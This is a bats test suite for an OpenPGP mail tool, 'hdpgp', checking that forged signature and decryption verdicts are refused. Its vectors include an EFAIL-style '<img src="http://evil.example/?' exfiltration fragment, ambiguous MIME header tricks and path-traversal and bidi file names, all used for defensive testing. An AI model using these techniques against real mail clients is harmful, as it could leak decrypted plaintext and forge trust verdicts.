#!/usr/bin/env bats
# Issue 9: verdicts that cannot be forged.  The vectors (tests/vectors.bash)
# are built here from scratch; Python's email module and Ruby's mail gem
# (tests/diffcheck.py, tests/diffcheck.rb) are the independent readers of
# what hdpgp writes.  Classes are issue 9's numbers: 1 one reading, 2 the
# From that is shown, 3 no decryption oracle, 6 decrypted file names.

bats_require_minimum_version 1.5.0
load helpers
load vectors

setup_file() { fv_setup_file; }
# The outputs of every test (clean_header), checked once for the file.
teardown_file() {
	local rc=0
	check_clean_headers || rc=$?
	hd_file_teardown
	return "$rc"
}
setup() { fv_setup; }
teardown() { fv_teardown; }

# Both parsers' reading of FILE, one JSON object each.
readings() {
	python3 "$HDPGP_SRCDIR/tests/diffcheck.py" read "$1"
	ruby "$HDPGP_SRCDIR/tests/diffcheck.rb" "$1"
}

# clean_header OUT [N]: OUT is kept as tN.K-N (test N's K-th), and checked
# with every test's outputs when the file ends (check_clean_headers, from
# teardown_file, which bats reports as a test of its own): no field in
# its top-level header block holds a bare CR or a NUL, and neither parser
# sees an X-Hdpgp-* field but the N (2) hdpgp wrote on top, nor the forged
# verdict.  One Python and one Ruby for the file, not for each test:
# Ruby's mail gem takes half a second to start.
clean_header() {
	CLEAN_N=$((${CLEAN_N:-0} + 1))
	mkdir -p "$HD_FILE/clean"
	hd_copy "$1" "$HD_FILE/clean/t$BATS_TEST_NUMBER.$CLEAN_N-${2:-2}"
}

check_clean_headers() {
	[ -d "$HD_FILE/clean" ] || return 0
	ruby "$HDPGP_SRCDIR/tests/diffcheck.rb" "$HD_FILE"/clean/* >"$HD_FILE/clean.rb" &&
	    python3 "$HDPGP_SRCDIR/tests/diffcheck.py" clean "$HD_FILE/clean.rb" \
	    "$HD_FILE"/clean/*
}

# No line of $output calls anything good and fully covered, or decrypted.
no_full_claim() {
	refute_output --regexp 'X-Hdpgp-Signature: good;'
	refute_output --regexp 'X-Hdpgp-Encryption: decrypted;.*coverage=full'
}

# ambiguous_verify IN: hdpgp-verify refuses IN with "ambiguous MIME", in
# check mode (exit 1), -j and filter mode; the output's header is clean.
ambiguous_verify() {
	local in=$1
	run -1 --separate-stderr hdpgp-verify -c "$in"
	assert_line --regexp '^X-Hdpgp-Signature: error; .*reason="ambiguous MIME'
	no_full_claim
	run -1 --separate-stderr hdpgp-verify -j "$in"
	jq -e '.sign.success == false and .status == 1 and
	    (.sign.comment | startswith("error"))' <<<"$output"
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-verify "$in"
	run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-/p' "$HD/out"
	no_full_claim
	assert_line --regexp '^X-Hdpgp-Signature: error; .*reason="ambiguous MIME'
	clean_header "$HD/out"
}

# ambiguous_decrypt IN: hdpgp-decrypt refuses IN: "ambiguous MIME" in a
# verdict, check mode 1, not one byte of plaintext in any mode.
ambiguous_decrypt() {
	local in=$1
	run -1 --separate-stderr hdpgp-decrypt -c "$in"
	assert_output --regexp 'reason="ambiguous MIME'
	no_full_claim
	refute_output --partial "$FV_MARK"
	run -1 --separate-stderr hdpgp-decrypt -j "$in"
	refute_output --partial "$FV_MARK"
	jq -e '.encryption.success == false and .sign.success == false' <<<"$output"
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$in"
	run -1 grep -c -a -e "$FV_MARK" "$HD/out"
	run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-/p' "$HD/out"
	no_full_claim
	clean_header "$HD/out"
}

# both FN ARGS...: FN on the vector file $HD/m, then on it with CRLF.
both() {
	local fn=$1
	shift
	echo "# LF"
	"$fn" "$HD/m" "$@"
	crlf "$HD/m" >"$HD/m.crlf"
	echo "# CRLF"
	"$fn" "$HD/m.crlf" "$@"
}

# --- class 1: one reading ---

@test "forgery 1: control: the good message the vectors start from is good" {
	fv_good >"$HD/m"
	run -0 hdpgp-verify -c "$HD/m"
	assert_line --regexp "^X-Hdpgp-Signature: good; signer=$ALICE_FPR; .*from-match=yes; coverage=full"
	run -0 stdout_to "$HD/out" hdpgp-verify "$HD/m"
	clean_header "$HD/out"
}

@test "forgery 1: a bare CR and a forged verdict in a top-level field" {
	local k
	for k in Subject To fold ctype; do
		echo "# variant $k"
		fv_bare_cr "$k" >"$HD/m"
		both ambiguous_verify
		# hdpgp-decrypt passes it on with the same care
		run -1 --separate-stderr hdpgp-decrypt -c "$HD/m"
		no_full_claim
		run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
		clean_header "$HD/out"
	done
}

@test "forgery 1: a bare CR in the top-level header becomes a space in filter mode" {
	fv_bare_cr Subject >"$HD/m"
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-verify "$HD/m"
	run -0 python3 "$HDPGP_SRCDIR/tests/mimecheck.py" header "$HD/out" Subject
	assert_output --partial "Ticket #42 X-Hdpgp-Signature: good"
	assert_equal "${#lines[@]}" 1
}

@test "forgery 1: a bare CR and a forged verdict in an encrypted entity's header" {
	local k
	for k in description hp-subject v1-subject ctype; do
		echo "# variant $k"
		fv_enc_cr "$k" | fv_enc -s >"$HD/e.asc"
		fv_wrap_enc "$HD/e.asc" >"$HD/m"
		both ambiguous_decrypt
		# binary OpenPGP, sent base64
		fv_enc_cr "$k" | fv_enc -s -b | base64 >"$HD/e.b64"
		fv_wrap_enc "$HD/e.b64" |
		    sed 's/^Content-Type: application\/octet-stream; name="encrypted.asc"$/&\nContent-Transfer-Encoding: base64/' >"$HD/m"
		both ambiguous_decrypt
		# the same entity with CRLF inside the encryption
		fv_enc_cr "$k" | crlf | fv_enc -s >"$HD/e.asc"
		fv_wrap_enc "$HD/e.asc" >"$HD/m"
		ambiguous_decrypt "$HD/m"
	done
}

@test "forgery 1: a NUL in inline-signed text hides the unsigned text after it" {
	local k
	for k in 8bit qp base64; do
		echo "# variant $k"
		fv_nul_inline "$k" >"$HD/m"
		both ambiguous_verify
	done
}

@test "forgery 1: a NUL in inline-signed text inside the encryption" {
	fv_nul_inline 8bit | sed '1,/^$/{/^Content-Transfer/!{/^Content-Type/!d}}' >"$HD/ent"
	fv_enc <"$HD/ent" >"$HD/e.asc"
	fv_wrap_enc "$HD/e.asc" >"$HD/m"
	run --separate-stderr hdpgp-decrypt -c "$HD/m"
	[ "$status" -ne 0 ]
	refute_output --regexp 'X-Hdpgp-Signature: good;.*coverage=full'
}

@test "forgery 1: conflicting boundary parameters and Content-Type fields in multipart/signed" {
	local k
	for k in twice twice-rev case case-rev rfc2231 rfc2231-rev continued two-ctype two-ctype-rev; do
		echo "# variant $k"
		fv_boundary "$k" >"$HD/m"
		both ambiguous_verify
	done
}

@test "forgery 1: a conflicting multipart/signed inside the encryption" {
	local k
	for k in twice case rfc2231 two-ctype; do
		echo "# variant $k"
		fv_boundary "$k" | sed '1,/^MIME-Version/d' | fv_enc >"$HD/e.asc"
		fv_wrap_enc "$HD/e.asc" >"$HD/m"
		run -1 --separate-stderr hdpgp-decrypt -c "$HD/m"
		assert_output --regexp 'reason="ambiguous MIME'
		no_full_claim
		run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
		run -1 grep -c 'ATTACKER' "$HD/out"
		run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-/p' "$HD/out"
		no_full_claim
	done
}

@test "forgery 1: a boundary that parsers read differently: an encoded word, a trailing space, a comment" {
	local v
	fv_part1 >"$HD/p1"
	fv_detach "$HD/p1" alice >"$HD/p1.sig"
	for v in 'boundary="=?utf-8?q?real?="' 'boundary==?us-ascii?q?real?=' \
	    'boundary="real "' 'boundary=real (c)' 'boundary="re\al"'; do
		echo "# $v"
		{ fv_hdrs
		  printf 'Content-Type: multipart/signed; %s; %s\n\n' "$v" "$SIGNED_PARAMS"
		  printf 'Attacker text that Ruby would show.\n'
		  fv_signed_body "$HD/p1" "$HD/p1.sig" real; } >"$HD/m"
		run -1 --separate-stderr hdpgp-verify -c "$HD/m"
		assert_line -n 0 --partial 'reason="ambiguous MIME: '
		refute_output --partial 'good;'
	done
}

@test "forgery 1: a header line that is neither a field nor a continuation, then a forged verdict" {
	local k
	for k in space-colon no-colon leading-colon; do
		echo "# variant $k"
		fv_bad_line "$k" >"$HD/m"
		both ambiguous_verify
	done
}

@test "forgery 1: From lists, groups and comments: from-match is never yes" {
	local k
	for k in semicolon semicolon-rev group group-one; do
		echo "# variant $k"
		fv_from "$k" >"$HD/m"
		run -3 --separate-stderr hdpgp-verify -c "$HD/m"
		assert_line --regexp "^X-Hdpgp-Signature: good; signer=$ALICE_FPR; .*from-match=ambiguous"
		crlf "$HD/m" >"$HD/m.crlf"
		run -3 --separate-stderr hdpgp-verify -c "$HD/m.crlf"
		assert_line --regexp '^X-Hdpgp-Signature: good; .*from-match=ambiguous'
		run -3 --separate-stderr hdpgp-verify -j "$HD/m"
		jq -e '.sign.success == false and .signatures[0].from_match == "ambiguous"' <<<"$output"
	done
	# the addr-spec is boss's; an address in a comment is no mailbox
	for k in comment comment-before comment-angle; do
		echo "# variant $k"
		fv_from "$k" >"$HD/m"
		run -3 --separate-stderr hdpgp-verify -c "$HD/m"
		assert_line --regexp '^X-Hdpgp-Signature: good; .*from-match=(no|ambiguous)'
		refute_output --partial 'from-match=yes'
	done
}

# --- class 2: the From that is shown is the From that is judged ---

@test "forgery 2: eve signs an inner From: Boss: the output shows it, from-match is not yes" {
	local form
	for form in v1 hp nested; do
		echo "# form $form"
		fv_inner_from "$form" 'Boss <boss@example.org>' carol >"$HD/m"
		run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
		run -0 python3 "$HDPGP_SRCDIR/tests/mimecheck.py" header "$HD/out" From
		assert_output 'Boss <boss@example.org>'
		run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-Signature: /p' "$HD/out"
		assert_output --regexp "^X-Hdpgp-Signature: good; signer=$CAROL_FPR; .*from-match=ambiguous"
		refute_output --partial 'from-match=yes'
		run --separate-stderr hdpgp-decrypt -c "$HD/m"
		[[ $status == 1 || $status == 3 ]]
		refute_output --partial 'from-match=yes'
		run --separate-stderr hdpgp-decrypt -j "$HD/m"
		jq -e '.sign.success == false and .signatures[0].from_match != "yes"' <<<"$output"
		crlf "$HD/m" >"$HD/m.crlf"
		run --separate-stderr hdpgp-decrypt -c "$HD/m.crlf"
		[[ $status == 1 || $status == 3 ]]
		refute_output --partial 'from-match=yes'
	done
}

@test "forgery 2: an inner From that differs from the outer one, signed by its owner: ambiguous" {
	# alice signs "From: alice" inside a message whose outer From is carol
	fv_inner_from v1 "$ALICE_ADDR" alice >"$HD/m"
	run --separate-stderr hdpgp-decrypt -c "$HD/m"
	[[ $status == 1 || $status == 3 ]]
	assert_line --regexp "^X-Hdpgp-Signature: good; signer=$ALICE_FPR; .*from-match=ambiguous"
}

@test "forgery 2: control: inner From equal to the outer one, signed by its owner: yes, exit 0" {
	fv_inner_from hp 'Carol RSA <carol@example.net>' carol >"$HD/m"
	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
	assert_line --regexp "^X-Hdpgp-Signature: good; signer=$CAROL_FPR; .*from-match=yes; coverage=full"
	assert_line --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
}

# --- class 3: no decryption oracle ---

# leaves_have OUT WORD: for both parsers some leaf of OUT holds WORD, once
# decoded (a decrypted file is sent base64).
leaves_have() {
	run -0 readings "$1"
	local l
	for l in "${lines[@]}"; do
		jq -r '.leaves[].data' <<<"$l" | python3 -c '
import base64, sys
w = sys.argv[1].encode()
sys.exit(0 if any(w in base64.b64decode(l) for l in sys.stdin) else 1)' "$2"
	done
}

# oracle IN: nothing of IN is decrypted in any mode; encrypted, partial.
oracle() {
	local in=$1
	run -3 --separate-stderr hdpgp-decrypt -c "$in"
	assert_line --regexp '^X-Hdpgp-Encryption: encrypted; coverage=partial'
	refute_output --partial 'X-Hdpgp-Encryption: decrypted'
	refute_output --partial "$FV_MARK"
	run -3 --separate-stderr hdpgp-decrypt -j "$in"
	refute_output --partial "$FV_MARK"
	jq -e '.encryption.success == false and .status == 3' <<<"$output"
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$in"
	run -1 grep -c -a -e "$FV_MARK" "$HD/out"
	run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-Encryption: /p' "$HD/out"
	assert_output --regexp '^X-Hdpgp-Encryption: encrypted; coverage=partial'
	run -0 last_decrypt_result
	refute_output success
}

last_decrypt_result() {
	hd_log | jq -r 'select(.action == "decrypt") | .result' | tail -n 1
}

@test "forgery 3: attacker text inside multipart/signed beside the victim's ciphertext" {
	local who k f
	for who in carol alice unknown; do
		for k in plain html; do
			for f in file asc inline; do
				echo "# signer $who, attacker $k, victim $f"
				fv_oracle_signed "$k" "$f" "$who" >"$HD/m"
				both oracle
			done
		done
	done
}

@test "forgery 3: html or text beside the victim's ciphertext, no signature" {
	local k f
	for k in plain html; do
		for f in file asc inline; do
			echo "# attacker $k, victim $f"
			fv_oracle_mixed "$k" "$f" >"$HD/m"
			both oracle
		done
	done
}

@test "forgery 3: an encrypted file inside a forwarded or bounced message/rfc822" {
	local k f
	for k in report mixed; do
		for f in file asc inline mpenc; do
			echo "# $k, victim $f"
			fv_bounce "$f" "$k" >"$HD/m"
			both oracle
		done
	done
}

@test "forgery 3: multipart/encrypted inside multipart/signed is encrypted content, not decrypted" {
	local who
	for who in alice carol unknown; do
		echo "# signer $who"
		{ fv_pgp_part mpenc; } >"$HD/op1"
		fv_detach "$HD/op1" "$who" >"$HD/op1.sig"
		{ fv_hdrs 'Eve <eve@example.net>'
		  printf 'Content-Type: multipart/signed; boundary="osig"; %s\n\n' "$SIGNED_PARAMS"
		  fv_signed_body "$HD/op1" "$HD/op1.sig" osig; } >"$HD/m"
		both oracle
	done
}

@test "forgery 3: text in a prologue or epilogue does not go out beside the plaintext" {
	fv_only_pgp file asc >"$HD/m0"
	# the attacker's text before the first and after the last boundary
	sed -e 's|^Content-Type: multipart/mixed; boundary=mix$|&\n\n<img src="http://evil.example/?|' \
	    -e '$a evil tail <img src="http://evil.example/?' "$HD/m0" >"$HD/m"
	grep -c 'evil.example' "$HD/m"
	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
	assert_line --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
	leaves_have "$HD/out" "$FV_MARK"
	run -1 grep -c 'evil.example' "$HD/out"
}

@test "forgery 3: a sender's own encrypted part cannot open a part of its choosing beside the victim's plaintext" {
	fv_victim
	# the attacker encrypts to the helpdesk a text whose lines would
	# close its part and open an HTML one, were it written as it stands
	printf 'see below\n--mix\nContent-Type: text/html\n\n<img src="http://evil.example/?\n' |
	    fv_enc >"$HD/attacker.asc"
	{ fv_hdrs; printf 'Content-Type: multipart/mixed; boundary=mix\n\n'
	  printf -- '--mix\nContent-Type: text/plain\n\n'; cat "$HD/attacker.asc"
	  printf -- '--mix\n'; fv_pgp_part inline
	  printf -- '--mix--\n'; } >"$HD/m"
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
	run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-Encryption: /p' "$HD/out"
	assert_output --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
	leaves_have "$HD/out" "$FV_MARK"
	# every reader sees the two text/plain parts, and no HTML
	run -0 readings "$HD/out"
	local l
	for l in "${lines[@]}"; do
		jq -e '[.leaves[].type] == ["text/plain", "text/plain"]' <<<"$l"
	done
}

@test "forgery 3: control: encrypted files alone (and a blank text) are decrypted in place" {
	fv_only_pgp file asc >"$HD/m"
	run -0 --separate-stderr hdpgp-decrypt -c "$HD/m"
	assert_line --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
	run -0 --separate-stderr stdout_to "$HD/out" hdpgp-decrypt "$HD/m"
	leaves_have "$HD/out" "$FV_MARK"
	clean_header "$HD/out"
}

# --- class 6: decrypted file names ---

# names_check FILE...: for both parsers, a leaf of each FILE holds
# $FV_MARK once decoded, and the file names its leaves restore are safe:
# there is one at least, and none is empty, holds a path separator,
# starts with "." (the last path component of "..\\..\\x" is "x") or holds
# a bidi or format control.  One Python and one Ruby for all the files.
names_check() {
	ruby "$HDPGP_SRCDIR/tests/diffcheck.rb" "$@" >"$HD/names.rb"
	python3 - "$FV_MARK" "$HD/names.rb" "$@" <<-'EOF'
	import base64, json, os, re, sys
	sys.path.insert(0, os.path.join(os.environ["HDPGP_SRCDIR"], "tests"))
	import diffcheck
	mark = sys.argv[1].encode()
	with open(sys.argv[2]) as f:
	    rb = {o["file"]: o for o in map(json.loads, f)}
	bad = []
	for p in sys.argv[3:]:
	    for who, r in (("python", diffcheck.read(p)), ("ruby", rb[p])):
	        if not any(mark in base64.b64decode(l["data"]) for l in r["leaves"]):
	            bad.append("%s: %s sees no leaf with the plaintext" % (p, who))
	        names = [l["filename"] for l in r["leaves"] if l.get("filename")]
	        if not names:
	            bad.append("%s: %s sees no file name" % (p, who))
	        for n in names:
	            if (not n.strip() or re.search(r"[/\\]", n) or n.startswith(".")
	                    or re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", n)):
	                bad.append("%s: %s sees the name %r" % (p, who, n))
	print("\n".join(bad))
	sys.exit(1 if bad else 0)
	EOF
}

@test "forgery 6: restored file names keep no path and no bidi or format control" {
	local name form names out k=0
	mapfile -t names < <(fv_names)
	mkdir "$HD/named"
	for name in "${names[@]}"; do
		for form in plain rfc2231 word; do
			echo "# $form: $name"
			fv_named "$name" "$form" >"$HD/m"
			k=$((k + 1))
			out=$HD/named/$k
			run -0 --separate-stderr stdout_to "$out" hdpgp-decrypt "$HD/m"
			run -0 sed -n '/^\r\?$/q; /^X-Hdpgp-Encryption: /p' "$out"
			assert_output --regexp '^X-Hdpgp-Encryption: decrypted; .*coverage=full'
		done
	done
	run -0 names_check "$HD"/named/*
}
